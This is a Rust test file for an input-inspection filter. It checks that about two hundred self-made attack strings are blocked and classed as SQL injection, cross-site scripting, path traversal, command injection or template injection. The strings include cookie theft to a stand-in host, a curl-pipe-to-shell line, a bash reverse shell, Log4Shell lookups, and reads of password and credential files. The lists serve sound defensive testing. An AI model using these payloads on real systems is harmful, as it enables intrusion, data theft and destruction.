//! Attacks of our own making, one list for each class.

use inspect::{Action, Class};

use crate::{exceptions, judge_everywhere};

fn assert_caught(values: &[&str], class: Class) {
    let missed = exceptions(values, Action::Block);
    assert!(missed.is_empty(), "{} of {} pass:\n{}", missed.len(), values.len(), missed.join("\n"));
    for value in values {
        let found = judge_everywhere(value)[1].findings.iter().any(|finding| finding.class == class);
        assert!(found, "{value:?} is not called {class}");
    }
}

#[test]
fn sql_injection_is_caught() {
    assert_caught(SQL, Class::SqlInjection);
}

#[test]
fn script_is_caught() {
    assert_caught(SCRIPT, Class::CrossSiteScripting);
}

#[test]
fn names_of_system_files_and_inner_addresses_are_caught() {
    assert_caught(FILES, Class::PathTraversal);
}

#[test]
fn commands_are_caught() {
    assert_caught(COMMANDS, Class::CommandInjection);
}

#[test]
fn expressions_of_templates_are_caught() {
    assert_caught(TEMPLATES, Class::TemplateInjection);
}

const SQL: &[&str] = &[
    // Out of a string, into the condition.
    "pump' or 'a'='a",
    "pump\" or \"a\"=\"a",
    "pump' or 1=1--",
    "pump') or ('x'='x",
    "pump')) or 7>3 #",
    "x' or true--",
    "x' or not false-- -",
    "' or ''='",
    "'or'7'='7",
    "asha'--",
    "asha' #",
    "asha';--",
    "asha'/*",
    "x' and 5 between 1 and 9 and 'a'='a",
    "x' and title is not null--",
    "x' and title like 'P%",
    "x' || 'a'='a",
    "x' && 1=1#",
    "x' xor 3=3--",
    "1'='1",
    "' or state in ('OPEN','CLOSED')--",
    "x' having 1=1--",
    "x' group by site having 3=3--",
    "x' order by 9--",
    "x' limit 1 offset 0--",
    // Numbers.
    "5 or 5=5",
    "-5 or 8=8",
    "5) or (8=8",
    "5 and 3=4",
    "5 or 'a'='a'",
    "5 and SLEEP(9)",
    "5-SLEEP(9)",
    "5 || SLEEP(9)",
    "5 or true",
    "5 order by 12--",
    "5 procedure analyse()",
    // Second statements.
    "5; drop table tickets",
    "x'; drop table tickets;--",
    "x'; insert into people(name) values('me');--",
    "x'; update people set admin=1 where id=7--",
    "x'; delete from audit--",
    "5; exec xp_cmdshell 'dir'",
    "x'; shutdown;--",
    "x'; waitfor delay '0:0:9'--",
    "x'; select PG_SLEEP(9)--",
    "x'; copy (select '') to program 'id'--",
    "x'; declare @x varchar(99); set @x=0x73656c656374; exec(@x)--",
    // Unions and subselects.
    "5 union select 1,2,3",
    "5 union all select null,null,null--",
    "5 union distinct select name,secret from people",
    "x' union select current_user,version()--",
    "5 union(select 1)",
    "5 and (select count(*) from people)>0",
    "5 and ascii(substr((select secret from people limit 1),1,1))>64",
    "x' and exists(select 1 from people where name='asha')--",
    "(select 1 from (select SLEEP(9))a)",
    "case when (1=1) then PG_SLEEP(9) else 0 end",
    "if(1=1,SLEEP(9),0)",
    "select * from people",
    "select name,secret from users where admin=1",
    "1 union select table_name,2 from information_schema.tables",
    // What only attacks call.
    "extractvalue(1,concat(0x7e,version()))",
    "5 and updatexml(1,concat(0x7e,user()),1)",
    "5 and floor(rand(0)*2)=1",
    "benchmark(9000000,md5(1))",
    "load_file('/etc/passwd')",
    "x' into outfile '/var/www/x.php'--",
    "dbms_pipe.receive_message('a',9)",
    "utl_http.request('http://x.example/')",
    "@@version",
    "char(83)+char(81)+char(76)",
    "5 and make_set(1=1,7)",
    "x' rlike SLEEP(9)#",
    // Hidden.
    "5/**/union/**/select/**/1,2,3",
    "5/*!50000union*//*!50000select*/1,2",
    "5%20union%20select%201,2,3",
    "5%2520union%2520select%25201,2,3",
    "x%27 or 1=1--",
    "x\\u0027 or 1=1--",
    "x&#39; or 1=1--",
    "x\u{ff07} or 1=1--",
    "5\u{a0}or\u{a0}5=5",
    "5\tor\n5=5",
    "uNiOn SeLeCt 1,2",
    "x'\u{0}or 1=1--",
    "5 uni\u{200b}on select 1,2",
    // Documents as queries.
    "{\"name\": {\"$ne\": null}}",
    "name[$gt]=",
    "'; return true; var x='",
    "x' @> '{}'::jsonb--",
];

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//x.example/a.js>",
    "<ScRiPt >fetch('//x.example?'+document.cookie)</sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\"",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<x onpointerenter=alert(1) style=display:block>x",
    "<x oncontentvisibilityautostatechange=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  java\tscript:alert(1)\">x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x",
    "<iframe src=//x.example>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=javascript:alert(1)>",
    "<embed src=//x.example/a.swf>",
    "<base href=//x.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<div style=\"width:expression(alert(1))\">",
    "<div style=\"-moz-binding:url(//x.example/a.xml#b)\">",
    "<style>@import '//x.example/a.css';</style>",
    "<math><maction xlink:href=javascript:alert(1)>x",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1; ?>",
    "\" onmouseover=alert(1) x=\"",
    "' autofocus onfocus='alert(1)",
    "x onmouseover=alert(1)",
    "javascript:alert(document.domain)",
    "vbscript:msgbox(1)",
    "data:text/html,<b>x",
    "'-alert(1)-'",
    "\");alert(1)//",
    "';alert(1);var x='",
    "${alert(1)}",
    "alert(1)",
    "top['al'+'ert'](1)",
    "document.cookie",
    "new Image().src='//x.example/?'+document.cookie",
    "location='javascript:alert(1)'",
    "eval(String.fromCharCode(97,108,101,114,116))",
    "setTimeout('alert(1)',9)",
    "[].constructor.constructor('alert(1)')()",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
    "__proto__",
    // Hidden.
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Csvg%252Fonload%253Dalert(1)%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<\u{17f}cript>alert(1)</\u{17f}cript>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='http://x.example/?",
];

const FILES: &[&str] = &[
    "../../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "/etc/shadow%00.png",
    "....//....//etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "/var/www/../../etc/passwd",
    "file:///etc/passwd",
    "php://filter/convert.base64-encode/resource=index.php",
    "phar://uploads/x.jpg/x",
    "gopher://127.0.0.1:6379/_flushall",
    "jar:http://x.example/x.jar!/x",
    "/proc/self/environ",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    "http://169.254.169.254/latest/meta-data/",
    "/home/app/.ssh/id_rsa",
    ".git/config",
    "/app/.env",
    "WEB-INF/web.xml",
];

const COMMANDS: &[&str] = &[
    "pump; cat /etc/passwd",
    ";id",
    "| id",
    "x|whoami",
    "x && ls -la",
    "x & ping -n 9 127.0.0.1",
    "x || sleep 9",
    "$(id)",
    "x$(cat /etc/passwd)",
    "`id`",
    "x`whoami`",
    "a;cat${IFS}/etc/passwd",
    "{cat,/etc/passwd}",
    "; curl http://x.example/a.sh | sh",
    "x\nid",
    "; bash -i >& /dev/tcp/10.0.0.9/99 0>&1",
    "() { :;}; /bin/bash -c id",
    "cmd.exe /c dir",
    "powershell -enc SQBFAFgA",
    "system('id')",
    "__import__('os').system('id')",
    "Runtime.getRuntime().exec('id')",
    "|/bin/ls",
];

const TEMPLATES: &[&str] = &[
    "{{7*7}}",
    "{{ 7 * '7' }}",
    "${7*7}",
    "#{7*7}",
    "*{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${jndi:ldap://x.example/a}",
    "${${lower:j}ndi:${lower:l}dap://x.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
    "${env:SECRET}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
    "#set($x=$class.inspect(\"java.lang.Runtime\"))",
    "@(7*7)",
];

#[test]
fn there_are_enough_attacks_to_mean_something() {
    let all = [SQL, SCRIPT, FILES, COMMANDS, TEMPLATES].concat();
    assert!(all.len() >= 200, "{}", all.len());
}
